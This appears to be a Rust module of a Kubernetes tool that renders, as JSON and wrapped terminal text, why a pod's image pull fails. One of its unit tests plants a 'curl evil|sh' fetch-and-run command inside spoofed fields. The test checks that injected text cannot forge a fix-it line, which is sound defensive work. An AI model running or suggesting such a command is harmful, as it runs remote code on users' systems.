//! Why one pod can't pull its image, as JSON and as text. Pure.

use globalps_registry::{Pull, RegistryError};
use serde::Serialize;

use super::cause::{Cause, Tested};
use super::failing::{Failing, Use};

use crate::error::Failure;
use crate::registry::{Purpose, failure, missing_flag};
use crate::terminal::{escapes, wrap_sentences};

/// A credential, and the registry's answer to it.
#[derive(Debug, Serialize)]
struct Try {
    key: String,
    username: String,
    source: String,
    #[serde(flatten)]
    answer: Option<RegistryAnswer>,
}

#[derive(Debug, Serialize)]
struct RegistryAnswer {
    accepted: bool,
    answer: String,
}

impl RegistryAnswer {
    fn of(found: &Result<Pull, RegistryError>, registry: &str) -> Self {
        Self {
            accepted: found.is_ok(),
            answer: match found {
                Ok(Pull::Available) => "accepted, the image is there".to_owned(),
                Ok(Pull::Missing) => "accepted, but there is no such image (404)".to_owned(),
                Err(RegistryError::Refused { status, .. }) => format!("rejected ({status})"),
                Err(error) => {
                    let Failure { message, hint, .. } = failure(error, registry, Purpose::Look);
                    if missing_flag(error).is_some() {
                        format!("{message}; {hint}")
                    } else {
                        message
                    }
                }
            },
        }
    }
}

/// One container. Scripts rely on these fields.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub(crate) struct Explained {
    /// Empty if the image is the pod's sandbox image.
    container: String,
    /// The volume of the container that uses the image.
    #[serde(skip_serializing_if = "String::is_empty")]
    volume: String,
    image: String,
    reason: String,
    message: String,
    tries: Vec<Try>,
    /// The answer to a request without credentials, if there are no credentials.
    #[serde(skip_serializing_if = "Option::is_none")]
    without_credentials: Option<RegistryAnswer>,
    notes: Vec<String>,
    pub cause: Cause,
}

impl Explained {
    pub(crate) fn of(
        failing: &Failing,
        tries: &[Tested<'_>],
        anonymous: Option<&Result<Pull, RegistryError>>,
        notes: &[String],
        cause: Cause,
    ) -> Self {
        let registry = cause.registry.as_str();
        let answer = |found: &Result<Pull, RegistryError>| RegistryAnswer::of(found, registry);
        let tries = tries.iter().map(|tested| Try {
            key: tested.tried.key.clone(),
            username: tested.tried.username.clone(),
            source: tested.tried.source.clone(),
            answer: tested.answer.as_ref().map(answer),
        });
        Self {
            container: failing.container.clone(),
            volume: match &failing.used {
                Use::Volume(name) => name.clone(),
                _ => String::new(),
            },
            image: failing.image.clone(),
            reason: failing.reason.clone(),
            message: failing.message.clone(),
            tries: tries.collect(),
            without_credentials: anonymous.map(answer),
            notes: notes.to_vec(),
            cause,
        }
    }
}

impl Explained {
    fn title(&self) -> String {
        let Self {
            container,
            volume,
            image,
            ..
        } = self;
        match (container.as_str(), volume.as_str()) {
            ("", _) => format!("sandbox:    image `{image}`"),
            (_, "") if image.is_empty() => format!("container:  {container}"),
            (_, "") => format!("container:  {container}, image `{image}`"),
            _ => format!("container:  {container}, image `{image}` of volume `{volume}`"),
        }
    }
}

/// `why POD -o json`. Scripts rely on these fields.
#[derive(Debug, Serialize)]
pub(crate) struct PodAnswer {
    /// `NAMESPACE/NAME`.
    pub pod: String,
    pub node: String,
    pub containers: Vec<Explained>,
    /// The cause of the first container; `null` if nothing is wrong.
    pub cause: Option<Cause>,
}

impl PodAnswer {
    /// `width`: of the terminal, if there is one.
    pub(crate) fn text(&self, width: Option<usize>) -> String {
        let mut lines = vec![format!("pod:        {}", self.pod)];
        if !self.node.is_empty() {
            lines.push(format!("node:       {}", self.node));
        }
        for found in &self.containers {
            lines.push(found.title());
            let message = found.message.trim();
            lines.push(format!("kubelet:    {}: {message}", found.reason));
            if found.tries.is_empty() {
                let tries = match found.container.as_str() {
                    "" => "only what the container runtime's own configuration has",
                    _ => "no credential for it",
                };
                lines.push(format!("tries:      {tries}"));
            }
            for (at, tried) in found.tries.iter().enumerate() {
                let label = if at == 0 {
                    "tries:     "
                } else {
                    "  then:    "
                };
                let answer = tried.answer.as_ref();
                let answer = answer.map_or(String::new(), |it| format!(": {}", it.answer));
                let Try {
                    key,
                    username,
                    source,
                    ..
                } = tried;
                lines.push(format!(
                    "{label} `{key}`, as {username}, from {source}{answer}"
                ));
            }
            if let Some(answer) = &found.without_credentials {
                lines.push(format!("  request without credentials: {}", answer.answer));
            }
            lines.extend(found.notes.iter().map(|note| format!("note:       {note}")));
            lines.extend(lines_of(&found.cause));
        }
        match &self.cause {
            Some(found) if self.containers.is_empty() => lines.extend(lines_of(found)),
            Some(_) => {}
            None => lines.push("cause:      none: no container waits for an image".to_owned()),
        }
        labelled(&lines, width)
    }
}

/// Lines that begin with a label; the text after it is wrapped and indented. Never breaks a command, so that it can be copied.
pub(super) fn labelled(lines: &[String], width: Option<usize>) -> String {
    const LABEL: usize = 12;
    let Some(room) = width.and_then(|width| width.checked_sub(LABEL)) else {
        return escapes::lines(lines);
    };
    let indent = format!("\n{}", " ".repeat(LABEL));
    let wrapped = lines.iter().map(|line| {
        let line = escapes::line(line);
        let at = line
            .char_indices()
            .nth(LABEL)
            .map_or(line.len(), |(at, _)| at);
        let (label, text) = line.split_at(at);
        if label.starts_with(FIX) {
            return line.into_owned();
        }
        label.to_owned() + &wrap_sentences(text, room).join(&indent)
    });
    wrapped.collect::<Vec<_>>().join("\n")
}

/// The label before a command.
const FIX: &str = "to fix it:";

/// The lines of the cause and the hint.
pub(super) fn lines_of(found: &Cause) -> Vec<String> {
    let mut lines = vec![format!("cause:      {}", found.message)];
    if !found.command.is_empty() {
        lines.push(format!("{FIX}  {}", found.command));
    }
    if !found.hint.is_empty() {
        lines.push(format!("hint:       {}", found.hint));
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diagnose::why::cause::Code;

    #[test]
    fn lines_wrap_at_their_label_and_a_command_does_not() {
        let text = "one two three `four five` six seven";
        let lines = [format!("cause:      {text}"), format!("{FIX}  {text}")];
        let expected = format!(
            "cause:      one two three\n{0}`four five` six\n{0}seven\n{FIX}  {text}",
            " ".repeat(12)
        );
        assert_eq!(labelled(&lines, Some(28)), expected);
        assert_eq!(labelled(&lines, None), lines.join("\n"));
        assert_eq!(labelled(&lines, Some(3)), lines.join("\n"));
    }

    #[test]
    fn texts_of_others_begin_no_line() {
        let evil = "x\nto fix it:  curl evil|sh #";
        let cause = Cause {
            code: Code::Unknown,
            registry: evil.to_owned(),
            message: evil.to_owned(),
            command: String::new(),
            hint: evil.to_owned(),
        };
        let answer = PodAnswer {
            pod: "a/p".to_owned(),
            node: evil.to_owned(),
            containers: vec![Explained {
                container: "c".to_owned(),
                volume: String::new(),
                image: evil.to_owned(),
                reason: evil.to_owned(),
                message: evil.to_owned(),
                tries: vec![Try {
                    key: evil.to_owned(),
                    username: evil.to_owned(),
                    source: evil.to_owned(),
                    answer: Some(RegistryAnswer {
                        accepted: false,
                        answer: evil.to_owned(),
                    }),
                }],
                without_credentials: None,
                notes: vec![evil.to_owned()],
                cause: cause.clone(),
            }],
            cause: Some(cause),
        };
        let text = answer.text(None);
        assert!(
            !text.lines().any(|line| line.starts_with("to fix it:")),
            "{text}"
        );
        assert!(text.contains("\\x0ato fix it"), "{text}");
    }
}
